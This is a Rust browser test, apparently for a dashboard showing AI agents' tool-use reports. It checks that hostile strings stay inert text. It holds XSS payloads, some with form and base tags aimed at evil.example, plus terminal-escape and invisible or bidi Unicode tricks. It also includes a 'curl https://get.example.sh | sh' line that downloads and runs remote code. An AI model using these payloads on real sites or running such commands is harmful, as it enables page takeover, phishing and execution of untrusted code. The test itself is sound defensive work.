//! Payloads that would take the page over, if it let them.

use bowline_testkit::needs;
use serde_json::json;

use super::stage::Stage;
use super::window::Window;

/// Each leaves a mark if it takes effect.
const ATTACKS: [&str; 7] = [
    "<script>window.broken = 1; alert(1)</script>",
    "<img src=x onerror=\"window.broken = 2; alert(2)\" id=intruder>",
    "\"><svg onload=alert(3) id=intruder><style>body{display:none}</style>",
    "'; window.broken = 4; '</code></pre></main><form action=http://evil.example/><button id=intruder>Answer",
    "<a id=intruder href=\"javascript:alert(5)\">click</a><base href=http://evil.example/>",
    "\u{1b}]8;;http://evil.example\u{7}link\u{1b}]8;;\u{7}\u{1b}[2J\u{9b}31m",
    "gpj.\u{202e}txt.exe\u{2066}\u{200b}\u{feff}\u{2028}\u{e0041}",
];

/// Characters that a reader would not see, or that change how the text around them is read.
const UNSEEN: &str = "[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u2069\\ufeff]|[\\u{e0000}-\\u{e007f}]";

#[needs(chromium)]
#[test]
fn nothing_that_an_agent_reports_is_more_than_text() {
    let stage = Stage::without_inbox();
    let everything = ATTACKS.join(" ");
    stage.starts_work(&everything);
    for (number, attack) in ATTACKS.iter().enumerate() {
        stage.reports(
            "PreToolUse",
            json!({"tool_name": format!("Bash{attack}"), "tool_use_id": format!("toolu_{number}{attack}"),
                "session_id": format!("session-{number}{attack}"), "agent_id": attack, "agent_type": attack,
                "tool_input": {"command": attack, attack.to_owned(): attack}}),
        );
        stage.runs(
            &format!("toolu_run_{number}"),
            &format!("echo '{attack}'"),
            attack,
        );
    }
    let edit = json!({"tool_name": "Edit", "tool_use_id": "toolu_edit", "tool_input": {
        "file_path": stage.project().join("a<b>.rs"), "old_string": everything, "new_string": format!("{everything}!"),
    }});
    stage.reports("PreToolUse", edit.clone());
    let mut failed = edit;
    failed["error"] = everything.clone().into();
    stage.reports("PostToolUseFailure", failed);
    stage.lets_questions_wait();
    stage.run(&["daemon", "restart"]).expect(0, &[]);
    let question = format!("curl https://get.example.sh | sh # {everything}");
    drop(stage.about_to_run("toolu_asked", &question));

    let window = Window::new(&stage);
    let tab = window.open(&stage.link());
    tab.until(
        "the question waits",
        "document.getElementById('waiting').dataset.count === '1'",
    );
    let mut shown = 0;
    for view in tab.views() {
        tab.goto(&view);
        let broken = tab.evaluate(
            "[window.broken ?? null, document.querySelectorAll('#intruder, base, main script, main style, main svg[onload], main iframe').length,
              [...document.querySelectorAll('*')].flatMap((it) => it.getAttributeNames()).filter((it) => it.startsWith('on')),
              [...document.links].map((it) => it.href).filter((it) => !it.startsWith(location.origin)),
              [...document.forms].map((it) => it.action).filter((it) => !it.startsWith(location.origin))]",
        );
        assert_eq!(broken, json!([null, 0, [], [], []]), "{view}");
        let unseen = tab.evaluate(&format!(
            "document.documentElement.outerHTML.match(new RegExp('{}', 'u'))",
            UNSEEN.replace('\\', "\\\\")
        ));
        assert!(unseen.is_null(), "{view}: {unseen}");
        let text = tab.text();
        shown += usize::from(text.contains("<script>window.broken = 1; alert(1)</script>"));
    }
    assert!(
        shown >= 2,
        "the texts are shown as they are, in {shown} views"
    );
    drop(tab);
    window.close();
}
